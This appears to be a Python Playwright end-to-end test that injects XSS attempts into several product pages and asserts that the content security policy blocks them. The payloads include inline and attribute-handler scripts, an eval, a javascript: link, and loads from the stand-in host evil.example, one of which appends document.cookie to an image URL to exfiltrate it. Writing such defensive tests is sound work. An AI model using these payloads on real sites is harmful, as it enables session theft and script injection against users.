"""What slips into a page is stopped by its content security policy, on both kinds of pages."""

import pytest
from playwright.sync_api import Browser

from tests.e2e.browser import Product
from tests.e2e.hostile import WATCH

pytestmark = pytest.mark.timeout(200)

TRIED = """
async () => {
  const tried = {};
  const inline = document.createElement("script");
  inline.textContent = "window.__xss = 'inline'";
  document.body.append(inline);
  const handler = document.createElement("div");
  handler.innerHTML = `<img src=x onerror="window.__xss=1">`;
  document.body.append(handler);
  const outside = document.createElement("script");
  outside.src = "https://evil.example/x.js";
  document.body.append(outside);
  // later: what the browser's own tools evaluate is free of the policy, what follows it is not
  setTimeout(() => {
    try { new Function("window.__xss = 'eval'")(); } catch (error) { tried.eval = error.name; }
  });
  try { await fetch("https://evil.example/steal"); } catch (error) { tried.fetch = error.name; }
  const picture = new Image();
  picture.src = "https://evil.example/p.png?" + document.cookie;
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/";
  document.body.append(frame);
  const link = document.createElement("a");
  link.href = "javascript:window.__xss='link'";
  document.body.append(link);
  link.click();
  await new Promise((done) => setTimeout(done, 700));
  return { ...tried, ran: window.__xss ?? "", cookies: document.cookie };
}
"""


@pytest.mark.parametrize("where", ["audit", "build", "policies", "playground"])
def test_what_slips_into_a_page_is_stopped_by_its_policy(
    house: Product, browser: Browser, where: str
) -> None:
    context = browser.new_context()
    asked: list[str] = []
    try:
        page = context.new_page()
        page.add_init_script(WATCH)
        page.on("requestfinished", lambda request: asked.append(request.url))
        page.goto(f"{house.address}/en/{where}")
        page.wait_for_selector("html[data-atl-ready]", state="attached")
        told = page.evaluate(TRIED)
        blocked = page.evaluate("window.__csp.map((each) => each.split(' ')[0])")
    finally:
        context.close()
    assert told["ran"] == ""
    assert told["eval"] == "EvalError"
    assert told["fetch"] == "TypeError"
    assert "session" not in told["cookies"]
    wanted = {"script-src-elem", "script-src-attr", "connect-src", "img-src", "frame-src"}
    assert wanted <= set(blocked), blocked
    assert [url for url in asked if "evil.example" in url] == []
